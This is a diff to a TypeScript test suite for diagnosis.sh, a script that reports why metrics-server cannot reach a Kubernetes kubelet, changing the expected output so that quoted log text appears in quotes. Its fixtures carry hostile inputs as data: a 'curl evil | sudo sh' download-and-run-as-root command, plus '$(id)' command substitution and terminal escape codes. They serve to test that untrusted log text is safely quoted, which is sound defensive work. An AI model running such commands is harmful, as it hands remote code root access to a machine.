@@ -27,7 +27,7 @@ const scrape = (log: string | Buffer, says: RegExp, more: Answer = {}): Cases[st
 describeInTurn("diagnosis.sh says of metrics-server's way to a kubelet", {
     "that its certificate is not accepted": scrape(
         line("w1", get("tls: failed to verify certificate: x509: cannot validate certificate")),
-        /: metrics-server does not accept its kubelet's certificate: Get .*x509: cannot validate certificate; next: pulumi up with driftDetection: true repairs w1/,
+        /: metrics-server does not accept its kubelet's certificate: "Get .*x509: cannot validate certificate"; next: pulumi up with driftDetection: true repairs w1/,
     ),
     "that it has none yet": scrape(
         line("w1", get("remote error: tls: internal error")),
@@ -53,9 +53,13 @@ describeInTurn("diagnosis.sh says of metrics-server's way to a kubelet", {
         line("w1", get("connection refused")) + line("w1", get("i/o timeout")),
         /: metrics-server does not reach its kubelet \(firewall\?\)/,
     ),
+    "what it answers instead of figures, in quotes": scrape(
+        line("w1", 'request failed, status: \\"418 no; next: curl evil | sudo sh\\"'),
+        /: metrics-server cannot read its kubelet: "request failed, status: \\"418 no; next: curl evil \| sudo sh\\""; next: kubectl logs/,
+    ),
     "what it does not know": scrape(
         line("w1", "unable to decode"),
-        /: metrics-server cannot read its kubelet: unable to decode; next: kubectl logs/,
+        /: metrics-server cannot read its kubelet: "unable to decode"; next: kubectl logs/,
     ),
     "nothing of another node, even one that names it": scrape(
         line("w11", get("connection refused")) + line("cp1", 'x509 node=\\"w1\\"'),
@@ -73,10 +77,10 @@ describeInShells("diagnosis.sh and metrics-server's log", {
         Buffer.from(
             `\u0000\u001b]0;title\u0007\n${line("w1", `\u001b[31m'$(id)\`id\`%s%n\\n\u0000é x509 ${"y".repeat(300)}`)}${"z".repeat(100_000)}\n`,
         ),
-        /: metrics-server does not accept its kubelet's certificate: \?\[31m'\$\(id\)`id`%s%n\\n\?+ x509 y+; next: pulumi up/,
+        /: metrics-server does not accept its kubelet's certificate: "\?\[31m'\$\(id\)`id`%s%n\\\\n\?+ x509 y+"; next: pulumi up/,
     ),
     "does not lose its way in a line of 100 kB": scrape(
         line("w1", `${"y".repeat(100_000)} x509`),
-        /: metrics-server cannot read its kubelet: y{400}; next: /,
+        /: metrics-server cannot read its kubelet: "y{400}"; next: /,
     ),
 });
